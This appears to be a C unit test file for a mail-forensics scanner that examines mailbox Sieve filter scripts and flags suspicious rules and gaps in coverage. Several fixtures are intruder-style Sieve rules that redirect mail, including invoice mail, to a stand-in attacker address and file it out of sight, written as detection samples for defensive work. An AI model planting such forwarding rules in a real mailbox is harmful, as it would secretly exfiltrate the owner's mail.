/* test_scan_scripts.c - a mailbox's Sieve scripts become rules and findings; what was not read of
 * them, or is no longer there, is said. */
#include "alter_case.h"
#include "check.h"
#include "scan_box.h"

#include <string.h>

static void a_script_becomes_rules_and_findings(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};

    scan_box_script(
        box, "main",
        "require [\"fileinto\"];\n# rule:[.]\nif header :contains \"subject\" \"invoice\" {\n"
        "  redirect \"drop@evil.example\"; fileinto \"RSS Feeds\"; stop; }\n");
    scan_box_idle_script(box, "old", "redirect :copy \"drop@evil.example\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
    assert_int_equal(scan_box_worst(box, "rule-money-or-security", false), SEVERITY_CRITICAL);
    assert_true(scan_box_worst(box, "rule-odd-name", false) >= 0);
    assert_true(scan_box_worst(box, "rule-inactive-script", false) >= 0);
    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "finding");
}

static void a_script_that_does_not_parse_is_not_clean(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};

    scan_box_script(box, "main", "keep;\nif header :contains \"subject\" {{{\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "does not parse");
}

static void a_script_with_an_unknown_command_is_not_clean(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};

    scan_box_script(box, "main", "require [\"vnd.x.send\"];\nsendoff \"drop@evil.example\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "does what is not known here: sendoff");
}

static void a_script_that_calls_an_unknown_one_is_not_wholly_read(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};

    scan_box_script(box, "main", "require [\"include\"];\ninclude :personal \"other\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "\"other\" is called");
    scan_box_idle_script(box, "other", "keep;\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_NOTHING, "2 rules examined");
}

static void a_rule_that_is_damaged_in_the_case_is_not_examined(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};

    scan_box_script(box, "main", "keep;\n");
    alter(&box->sample, "UPDATE rule SET record = x'ff'");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "what is stored of it cannot be read");
}

/* An acquisition that begins, and what kept it from the rules. */
static void miss_rules(struct scan_box *box, const char *why)
{
    struct error err = {0};

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(run_begin(box->sample.cf, "acquire", "again", &box->run, &err), &err);
    assert_ok(rule_missed(box->sample.cf, box->account, box->run, why, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
}

static void rules_that_the_newest_look_missed_are_not_called_examined(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};

    miss_rules(box, "cannot reach it");
    scan_box_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED, "no rules have been read");
    scan_box_script(box, "main", "keep;\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_NOTHING, "1 rule examined");
    miss_rules(box, "cannot reach it");
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "1 rule examined; those of owner@acme");
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "have not been seen since 2");
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "Z, the newest acquisition did not");
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, ": cannot reach it");
    scan_box_finish(box); /* a scan sees no server */
    scan_box_covered(box, "rules-sieve", COVERAGE_PARTLY, "have not been seen since 2");
    scan_box_script(box, "main", "# no rule\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    scan_box_covered(box, "rules-sieve", COVERAGE_NOTHING, "holds no rules");
    miss_rules(box, "cannot reach it");
    scan_box_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED,
                     "there were no rules; those of owner");
    scan_box_script(box, "main", "discard;\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    miss_rules(box, "cannot reach it");
    scan_box_covered(box, "rules-sieve", COVERAGE_FOUND, "have not been seen since 2");
}

/* The first account has this script; that of a second one nobody could read. */
static void refuse_second(struct scan_box *box, const char *script)
{
    struct account other = {.user = "second@acme.example",
                            .host = "mail.acme.example",
                            .address = "",
                            .server = "",
                            .certificate = ""};
    struct error err = {0};

    scan_box_script(box, "main", script);
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(account_put(box->sample.cf, &other, &err), &err);
    assert_ok(rule_missed(box->sample.cf, other.id, box->run, "refused", &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
}

static void that_one_mailbox_has_no_rules_says_nothing_of_another(void **state)
{
    struct scan_box *box = *state;

    refuse_second(box, "# no rule\n");
    scan_box_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED,
                     "there were no rules; those of second@acme.example at mail.acme.example have "
                     "never been read: refused");
}

static void rules_of_another_mailbox_say_nothing_of_this_one(void **state)
{
    struct scan_box *box = *state;

    refuse_second(box, "keep;\n");
    scan_box_covered(
        box, "rules-sieve", COVERAGE_PARTLY,
        "1 rule examined; those of second@acme.example at mail.acme.example have never "
        "been read: refused");
}

static bool forward_says(struct scan_box *box, const char *words)
{
    struct arena arena = {0};
    struct finding finding = scan_box_finding(box, &arena, "rule-forwards-outside");
    bool says;

    assert_true(finding.id != 0);
    says = scan_box_says(&finding, words);
    arena_dispose(&arena);
    return says;
}

/* The same intruder's rule in two mailboxes: two findings, each with its own verdict. */
static void the_same_rule_in_two_mailboxes_is_two_findings(void **state)
{
    static const char script[] = "redirect \"drop@evil.example\";\n";
    struct account other = {.user = "second@acme.example", .host = "mail.acme.example"};
    struct scan_box *box = *state;
    struct finding *findings;
    struct arena arena = {0};
    struct error err = {0};
    size_t count, first = 0, second = 0;

    scan_box_script(box, "main", script);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_false(forward_says(box, "in the mailbox of"));
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(account_put(box->sample.cf, &other, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    box->account = other.id;
    scan_box_script(box, "main", script);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_ok(
        finding_list(box->sample.cf, &arena, false, (struct page){0}, &findings, &count, &err),
        &err);
    for (size_t i = 0; i < count; i++) {
        if (strcmp(findings[i].detector, "rule-forwards-outside") != 0)
            continue;
        first += scan_box_says(&findings[i],
                               "in the mailbox of owner@acme.example at mail.acme.example");
        second += scan_box_says(&findings[i],
                                "in the mailbox of second@acme.example at mail.acme.example");
    }
    assert_int_equal(first, 1);
    assert_int_equal(second, 1);
    arena_dispose(&arena);
}

/* The script, read and examined by a run of its own. */
static void look_anew(struct scan_box *box, const char *script)
{
    struct error err = {0};

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(run_begin(box->sample.cf, "acquire", "again", &box->run, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    scan_box_script(box, "main", script);
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
}

/* To the second mailbox of the case is not outside, and yet out of this one. */
static void a_rule_from_one_mailbox_to_another_is_told(void **state)
{
    static const char all[] = "redirect \"second@acme.example\";\n";
    struct account other = {.user = "second@acme.example", .host = "mail.acme.example"};
    struct allowed own = {.kind = "own", .value = "second@acme.example", .reason = "the same"};
    struct scan_box *box = *state;
    struct error err = {0};

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(account_put(box->sample.cf, &other, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    look_anew(box, "if header :contains \"subject\" \"zebra crossing\" { redirect :copy "
                   "\"second@acme.example\"; }\n");
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_LOW);
    assert_true(forward_says(box, "it leaves this mailbox for another one of the case"));
    look_anew(box, all);
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_MEDIUM);
    look_anew(box, "redirect \"second@acme.example\"; redirect \"drop@evil.example\";\n");
    assert_true(forward_says(box, "second@acme.example, to which it sends as well"));
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(allowed_put(box->sample.cf, &own, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    look_anew(box, all);
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), -1);
}

/* The server calls its user by the local part; and what was imported bears the owner's address. */
static void a_mailbox_known_by_a_short_name_is_another_one_too(void **state)
{
    struct account other = {.user = "second", .host = "mail.acme.example"};
    struct account file = {.user = "imported mail",
                           .host = "import",
                           .address = "second@acme.example",
                           .kind = "import"};
    struct scan_box *box = *state;
    struct error err = {0};

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(account_put(box->sample.cf, &other, &err), &err);
    assert_ok(account_put(box->sample.cf, &file, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    look_anew(box, "redirect :copy \"second@acme.example\";\n");
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_MEDIUM);
    look_anew(box, "redirect :copy \"third@acme.example\";\n");
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), -1);
}

/* What a colleague wrote, filed in this mailbox, is none of this owner's habits. */
static void mail_from_another_mailbox_was_not_sent_by_this_owner(void **state)
{
    struct account other = {.user = "second@acme.example", .host = "mail.acme.example"};
    struct scan_box *box = *state;
    struct arena arena = {0};
    struct error err = {0};
    int64_t folder = scan_box_folder(box, "Projects", FOLDER_PLAIN), theirs, mine;

    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(account_put(box->sample.cf, &other, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    theirs = scan_box_letter(box, folder, "second@acme.example", "one", "");
    mine = scan_box_letter(box, folder, "owner@acme.example", "two", "");
    scan_box_finish(box);
    assert_int_equal(scan_box_message(box, &arena, theirs).direction, DIRECTION_IN);
    assert_int_equal(scan_box_message(box, &arena, mine).direction, DIRECTION_SENT);
    arena_dispose(&arena);
}

static void what_is_no_longer_there_is_gone_not_forgotten(void **state)
{
    struct scan_box *box = *state;
    struct error err = {0};
    int64_t second;

    scan_box_script(box, "main", "redirect \"drop@evil.example\";\n");
    assert_ok(scan_detect(box->scan, box->run, &err), &err);
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
    assert_ok(casefile_begin(box->sample.cf, &err), &err);
    assert_ok(run_begin(box->sample.cf, "acquire", "again", &second, &err), &err);
    assert_ok(casefile_commit(box->sample.cf, &err), &err);
    scan_box_script(box, "main", "keep;\n");
    assert_ok(scan_detect(box->scan, second, &err), &err);
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", false), -1);
    assert_int_equal(scan_box_worst(box, "rule-forwards-outside", true), SEVERITY_CRITICAL);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_script_becomes_rules_and_findings, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(a_script_that_does_not_parse_is_not_clean, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(a_script_with_an_unknown_command_is_not_clean,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(a_script_that_calls_an_unknown_one_is_not_wholly_read,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(a_rule_that_is_damaged_in_the_case_is_not_examined,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(a_rule_from_one_mailbox_to_another_is_told, scan_box_open,
                                        scan_box_close),
        cmocka_unit_test_setup_teardown(a_mailbox_known_by_a_short_name_is_another_one_too,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(mail_from_another_mailbox_was_not_sent_by_this_owner,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(rules_that_the_newest_look_missed_are_not_called_examined,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(rules_of_another_mailbox_say_nothing_of_this_one,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(that_one_mailbox_has_no_rules_says_nothing_of_another,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(the_same_rule_in_two_mailboxes_is_two_findings,
                                        scan_box_open, scan_box_close),
        cmocka_unit_test_setup_teardown(what_is_no_longer_there_is_gone_not_forgotten,
                                        scan_box_open, scan_box_close),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
